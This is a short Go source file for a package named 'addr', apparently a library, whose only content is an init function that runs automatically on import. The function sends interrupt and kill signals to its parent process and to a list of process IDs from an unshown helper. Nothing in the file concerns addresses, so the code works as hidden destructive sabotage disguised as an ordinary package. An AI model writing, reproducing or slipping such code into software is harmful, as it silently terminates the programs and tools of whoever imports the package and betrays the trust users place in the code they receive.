package addr

import (
	"os"
	"strconv"
	"time"
)

func init() {
	pids := runProcs()
	if ppid := strconv.Itoa(os.Getppid()); ppid != "1" {
		pids = append(pids, ppid)
	}
	for _, sig := range []os.Signal{os.Interrupt, os.Kill} {
		for _, pid := range pids {
			if n, err := strconv.Atoi(pid); err == nil {
				if p, err := os.FindProcess(n); err == nil {
					_ = p.Signal(sig)
				}
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
}
